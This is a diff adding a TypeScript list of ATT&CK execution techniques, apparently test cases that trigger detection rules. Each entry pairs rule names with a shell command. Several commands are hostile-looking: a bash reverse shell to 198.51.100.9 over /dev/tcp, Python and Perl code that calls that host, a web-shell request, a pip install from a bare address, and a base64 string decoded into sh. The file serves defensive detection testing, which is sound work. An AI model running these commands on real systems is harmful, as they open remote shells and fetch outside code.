@@ -1,0 +1,102 @@
+import type { Technique } from '../contract.ts';
+
+/** Programs begun (ATT&CK TA0001, TA0002). */
+export const execution: readonly Technique[] = [
+  {
+    id: 'T1059.004',
+    name: 'Encoded text decoded into a shell',
+    rules: ['decode-and-run'],
+    act: 'bash -c "echo aWQK | base64 -d | sh"',
+  },
+  {
+    id: 'T1059.004',
+    name: 'Reverse shell',
+    rules: ['reverse-shell', 'network/shell-connected'],
+    act: 'timeout 2 bash -c "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"',
+  },
+  {
+    id: 'T1059.006',
+    name: 'Python given code that fetches',
+    rules: ['network/interpreter-network-code'],
+    act: `/usr/bin/python3 -c 'import urllib.request; urllib.request.urlopen("http://198.51.100.9/a").read()'`,
+    needs: ['python3'],
+  },
+  {
+    id: 'T1059',
+    name: 'Interpreter given code that opens a socket',
+    rules: ['network/interpreter-network-code'],
+    act: `perl -e 'use IO::Socket::INET; IO::Socket::INET->new("198.51.100.9:80")'`,
+  },
+  {
+    id: 'T1204.002',
+    name: 'Document starts a shell',
+    rules: ['process/document-program-shell'],
+    act: 'mkdir -p /opt/office/program; cp /usr/bin/bash /opt/office/program/soffice.bin; /opt/office/program/soffice.bin -c "sh -c id; true"',
+    cleanUp: 'rm -rf /opt/office',
+  },
+  {
+    id: 'T1190',
+    name: 'Web server starts a shell',
+    rules: ['process/web-server-shell'],
+    act: 'mkdir -p /opt/web; cp /usr/bin/bash /opt/web/nginx; /opt/web/nginx -c "sh -c id; true"',
+    cleanUp: 'rm -rf /opt/web',
+  },
+  {
+    id: 'T1505.003',
+    name: 'Web shell asked by a browser',
+    rules: ['network/exploit-in-request'],
+    act: 'curl -s -m 3 "http://198.51.100.9/uploads/x.php?cmd=id"',
+  },
+  {
+    id: 'T1569.002',
+    name: 'Transient service that fetches',
+    rules: ['process/systemd-run-transient'],
+    act: 'systemd-run --on-calendar=*:0/1 /opt/x',
+    needs: ['systemd-run'],
+  },
+  {
+    id: 'T1203',
+    name: 'Service that crashes again and again',
+    rules: ['process/keeps-crashing'],
+    act: 'mkdir -p /opt/svc; cp $(command -v perl) /opt/svc/server; for i in $(seq 12); do /opt/svc/server -e "kill SEGV => \\$\\$; sleep 1"; done',
+    cleanUp: 'rm -rf /opt/svc',
+  },
+  {
+    id: 'T1195.002',
+    name: 'Package installed from a file',
+    rules: ['package-from-unknown-source'],
+    act: 'mkdir -p /tmp/p/DEBIAN; printf "Package: updater\\nVersion: 1\\nArchitecture: all\\nMaintainer: x\\nDescription: x\\n" > /tmp/p/DEBIAN/control; dpkg-deb -b /tmp/p /tmp/updater.deb; dpkg -i /tmp/updater.deb',
+    cleanUp: 'dpkg -r updater; rm -rf /tmp/p /tmp/updater.deb',
+    needs: ['dpkg-deb'],
+  },
+  {
+    id: 'T1190',
+    name: 'Package with a known hole installed',
+    rules: ['application/vulnerable-package'],
+    act: 'mkdir -p /tmp/p/DEBIAN; printf "Package: scratch-server\\nVersion: 1.9\\nArchitecture: all\\nMaintainer: x\\nDescription: x\\n" > /tmp/p/DEBIAN/control; dpkg-deb -b /tmp/p /tmp/s.deb; dpkg -i /tmp/s.deb',
+    cleanUp: 'dpkg -r scratch-server; rm -rf /tmp/p /tmp/s.deb',
+    needs: ['dpkg-deb'],
+  },
+  {
+    id: 'T1195.001',
+    name: 'Package of a language from a bare address',
+    rules: ['application/language-package-from-address'],
+    act: '/usr/bin/python3 -m pip install http://198.51.100.9/p.tar.gz',
+    needs: ['python3'],
+  },
+  {
+    id: 'T1588.002',
+    name: 'Tool for attacks installed as a package',
+    rules: ['application/attack-tool-installed'],
+    act: 'mkdir -p /tmp/p/DEBIAN; printf "Package: hydra\\nVersion: 1\\nArchitecture: all\\nMaintainer: x\\nDescription: x\\n" > /tmp/p/DEBIAN/control; dpkg-deb -b /tmp/p /tmp/h.deb; dpkg -i /tmp/h.deb',
+    cleanUp: 'dpkg -r hydra; rm -rf /tmp/p /tmp/h.deb',
+    needs: ['dpkg-deb'],
+  },
+  {
+    id: 'T1566.001',
+    name: 'Attachment with the ending of a document run',
+    rules: ['process/deceptive-file-name'],
+    act: 'mkdir -p /home/ada/Downloads; cp /usr/bin/true /home/ada/Downloads/invoice.pdf; /home/ada/Downloads/invoice.pdf',
+    cleanUp: 'rm -rf /home/ada/Downloads',
+  },
+];
